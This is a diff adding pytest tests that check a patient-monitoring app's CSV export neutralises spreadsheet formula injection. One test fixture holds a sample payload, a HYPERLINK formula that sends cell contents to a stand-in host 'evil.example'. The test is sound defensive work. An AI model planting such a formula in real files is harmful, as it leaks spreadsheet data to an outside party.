@@ -4,6 +4,7 @@ validated against the FHIR models."""
 from __future__ import annotations
 
 import csv
+import io
 import json
 from pathlib import Path
 
@@ -11,10 +12,12 @@ import pytest
 from fhir.resources.R4B.bundle import Bundle
 
 from monitor.app.courses import CourseService
-from monitor.app.export_csv import SAMPLE_COLUMNS, TIMELINE_COLUMNS, write_csv
+from monitor.app.export_csv import SAMPLE_COLUMNS, TIMELINE_COLUMNS, SafeWriter, write_csv
 from monitor.app.export_fhir import session_bundle
 from monitor.app.session_record import load_record
+from monitor.app.session_service import SessionService
 from monitor.cli import main
+from monitor.session.entries import EntryKind
 from monitor.storage.writer import SessionWriter
 
 
@@ -46,6 +49,36 @@ def test_csv_has_every_sample_and_the_timeline_with_corrections(recorded_session
         "action": "bolus",
         "dose_mg": 10.0,
     }
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_csv_neutralises_text_cells_that_a_spreadsheet_would_run(recorded_session, tmp_path: Path) -> None:
+    db, sid = recorded_session
+    with SessionWriter(db) as writer:
+        service = SessionService(writer, sid, 1_767_225_600.0, clock=lambda: 1_767_225_600.0 + 3600, initials="KM")
+        note = service.record(EntryKind.NOTE, {"note": "@SUM(1+1)"}, t=1_767_225_600.0 + 1200).result(5)
+        service.strike(note.id, FORMULA).result(5)
+        rass = service.record(EntryKind.SCORE, {"scale": "rass", "score": -1}, t=1_767_225_600.0 + 1300).result(5)
+        service.amend(rass.id, {"scale": "rass", "score": -2}, "-2 not -1").result(5)
+    samples_path, timeline_path = write_csv(load_record(db, sid), tmp_path / "out")
+    with open(timeline_path, newline="") as f:
+        timeline = list(csv.DictReader(f))
+    struck = next(r for r in timeline if r["kind"] == "note")
+    assert struck["correction_reason"] == "'" + FORMULA, "a live formula in a spreadsheet"
+    assert struck["description"] == "Note: @SUM(1+1)", "text not at the cell's start is left as typed"
+    assert next(r for r in timeline if r["entry_id"] == str(rass.id))["correction_reason"] == "'-2 not -1"
+    with open(samples_path, newline="") as f:
+        assert next(csv.reader(f))[0] == "time_utc"
+        assert all(not cell.startswith("'") for row in csv.reader(f) for cell in row), "numbers stay numbers"
+
+
+def test_safe_writer_quotes_only_text_cells_and_leaves_numbers_alone() -> None:
+    out = io.StringIO()
+    SafeWriter(out).writerow(["=1+2", "+1", "-x", "@A1", "\tTAB", "\rCR", "a=b", "", -1.5, -3, 0.0])
+    (row,) = csv.reader(io.StringIO(out.getvalue()))
+    assert row == ["'=1+2", "'+1", "'-x", "'@A1", "'\tTAB", "'\rCR", "a=b", "", "-1.5", "-3", "0.0"]
 
 
 def test_fhir_bundle_validates_and_codes_vitals_with_loinc(recorded_session) -> None:
